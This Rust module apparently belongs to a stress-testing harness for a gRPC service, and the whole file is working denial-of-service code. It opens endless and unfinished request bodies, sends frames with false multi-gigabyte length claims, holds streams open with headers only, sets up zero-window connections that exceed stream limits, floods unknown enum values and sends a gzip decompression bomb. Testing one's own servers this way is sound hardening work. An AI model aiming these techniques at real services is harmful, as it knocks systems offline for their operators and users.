//! Attacks by requests and their bodies.

use std::collections::BTreeMap;
use std::io;
use std::time::Duration;

use super::connection::{Connection, Target};
use super::wire::{self, FRAME_MAX, kind, setting};

pub(super) const CHECK: &str = "/grpc.health.v1.Health/Check";
pub(super) const WATCH: &str = "/grpc.health.v1.Health/Watch";
pub(super) const REFLECT: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
pub(super) const GET_SUBJECT: &str = "/countersign.v1.SubjectService/GetSubject";
const LIST_DEVICES: &str = "/countersign.v1.DeviceService/ListDevices";
const VERIFY: &str = "/countersign.v1.VerificationService/Verify";

/// A request about the subject `alice`.
pub(super) const ALICE: &[u8] = b"\x0a\x05alice";

/// How long to wait where nothing can be sent.
const WHILE: Duration = Duration::from_millis(50);
/// Frames in one write.
const CRUMBS: usize = 200;
/// Unread answers on one connection, where the announced number of streams is not kept to.
const GREEDY: usize = 1_500;
/// The length of a message that is not finished, in bytes. Servers take 64 KiB by default.
const LARGE: usize = (64 << 10) - 16;
/// The bytes that are sent of its body.
const UNFINISHED: usize = 65_400;
/// How large a bomb is when it is unpacked.
const BOMB: usize = 48 << 20;

/// Streams of an open method whose bodies never end: of empty messages, of a message that claims 4 MiB, which the
/// decoders of most servers allow, of one that claims 4 GiB, and of frames with one byte or none, which cost the server
/// more than they cost here. A connection has one sort of them: a server may end the connection for another.
pub(super) async fn endless_bodies(target: &Target, number: usize) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let check = wire::headers(CHECK, None, &[]);
    let piece = [0; FRAME_MAX];
    loop {
        while connection.room() > 0 {
            let stream = connection.request(&check, false).await?;
            match number {
                0 => {}
                1 => drop(connection.data(stream, &wire::prefix(false, u32::MAX), false).await?),
                2 | 3 => {}
                _ => drop(connection.data(stream, &wire::prefix(false, 4 << 20), false).await?),
            }
        }
        let mut sent = 0;
        for stream in connection.open_streams() {
            sent += match number {
                2 | 3 => connection.crumbs(stream, number - 2, CRUMBS).await?,
                _ => connection.data(stream, &piece, false).await?,
            };
        }
        connection.attend(if sent == 0 { WHILE } else { Duration::ZERO }).await?;
    }
}

/// Streams with the beginning of a message that claims to be large.
pub(super) async fn claimed_lengths(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let heads = [
        wire::headers(CHECK, None, &[]),
        wire::headers(VERIFY, Some(&target.auditor), &[]),
        wire::headers(GET_SUBJECT, Some(&target.reader), &[]),
        wire::headers(LIST_DEVICES, Some(&target.reader), &[]),
    ];
    let claims = [4 << 10, 64 << 10, 4 << 20, u32::MAX].map(|length| wire::prefix(false, length));
    let mut number = 0;
    loop {
        while connection.room() > 0 {
            let stream = connection.request(&heads[number % heads.len()], false).await?;
            let claim = &claims[number / heads.len() % claims.len()];
            connection.data(stream, &[claim, &[10][..]].concat(), false).await?;
            number += 1;
        }
        connection.attend(WHILE).await?;
    }
}

/// Streams with all of a large message but its end, as many as the server takes, and new ones for those that it ends.
pub(super) async fn unfinished_bodies(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let verify = wire::headers(VERIFY, Some(&target.reader), &[]);
    let mut message = wire::message(&[0; LARGE]);
    message.truncate(UNFINISHED);
    let mut sent: BTreeMap<u32, usize> = BTreeMap::new();
    loop {
        sent.retain(|stream, _| connection.is_open(*stream));
        while connection.room() > 0 {
            sent.insert(connection.request(&verify, false).await?, 0);
        }
        let mut more = 0;
        for (stream, sent) in &mut sent {
            let rest = message.get(*sent..).unwrap_or_default();
            let data = connection.data(*stream, rest, false).await?;
            *sent += data;
            more += data;
        }
        connection.attend(if more == 0 { WHILE } else { Duration::ZERO }).await?;
    }
}

/// Streams of headers, after which nothing comes.
pub(super) async fn headers_only(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let heads = [
        wire::headers(VERIFY, Some(&target.auditor), &[]),
        wire::headers(GET_SUBJECT, Some(&target.reader), &[]),
        wire::headers(LIST_DEVICES, Some(&target.auditor), &[]),
        wire::headers(VERIFY, Some(&target.reader), &[]),
    ];
    let mut number = 0;
    loop {
        while connection.room() > 0 {
            connection.request(&heads[number % heads.len()], false).await?;
            number += 1;
        }
        connection.attend(WHILE).await?;
    }
}

/// Calls whose answers may not be sent, since the window is closed, and are not read. Every eighth connection has more
/// streams than the server announced.
pub(super) async fn unread_answers(target: &Target, number: usize) -> io::Result<()> {
    let mut connection = Connection::open(target, &[(setting::INITIAL_WINDOW_SIZE, 0)]).await?;
    let (head, message) = if number.is_multiple_of(2) {
        (wire::headers(CHECK, None, &[]), wire::message(&[]))
    } else {
        (wire::headers(GET_SUBJECT, Some(&target.reader), &[]), wire::message(ALICE))
    };
    let streams = if number.is_multiple_of(8) { GREEDY } else { connection.room() };
    for _ in 0..streams {
        connection.call(&head, &message).await?;
    }
    // Written into a closed connection, it says that the connection is closed.
    let ping = wire::frame(kind::PING, 0, 0, b"pingping");
    loop {
        tokio::time::sleep(WHILE).await;
        connection.write(&ping).await?;
    }
}

/// `ListDevices` with states that no version knows, in 64 KiB or in 4 MB.
pub(super) async fn unknown_enums(target: &Target, number: usize) -> io::Result<()> {
    let values: usize = if number.is_multiple_of(2) { (64 << 10) - 64 } else { 4_000_000 };
    // Packed values of field 2, each of one byte, after the subject in field 1.
    let mut message = b"\x0a\x05alice\x12".to_vec();
    let mut rest = values;
    while rest >= 128 {
        message.push((rest % 128) as u8 | 128);
        rest /= 128;
    }
    message.push(rest as u8);
    message.resize(message.len() + values, 100);
    upload(target, &wire::headers(LIST_DEVICES, Some(&target.reader), &[]), &wire::message(&message)).await
}

/// Streams on which the server says how it is for as long as they are open.
pub(super) async fn watches(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let watch = wire::headers(WATCH, None, &[]);
    loop {
        while connection.room() > 0 {
            connection.call(&watch, &wire::message(&[])).await?;
        }
        connection.attend(WHILE).await?;
    }
}

/// Messages that are small until they are unpacked.
pub(super) async fn gzip_bomb(target: &Target) -> io::Result<()> {
    let bomb = wire::gzip_of_zeros(BOMB);
    let length = u32::try_from(bomb.len()).unwrap_or(u32::MAX);
    let body = [wire::prefix(true, length), bomb].concat();
    let gzip = [("grpc-encoding", "gzip")];
    upload(target, &wire::headers(GET_SUBJECT, Some(&target.reader), &gzip), &body).await
}

/// Sends a body again and again, as far as the server takes it.
async fn upload(target: &Target, head: &[u8], body: &[u8]) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    loop {
        let stream = connection.request(head, false).await?;
        let mut sent = 0;
        while sent < body.len() && connection.is_open(stream) {
            let more = connection.data(stream, &body[sent..], true).await?;
            sent += more;
            connection.attend(if more == 0 { WHILE } else { Duration::ZERO }).await?;
        }
        connection.finish(stream).await?;
    }
}
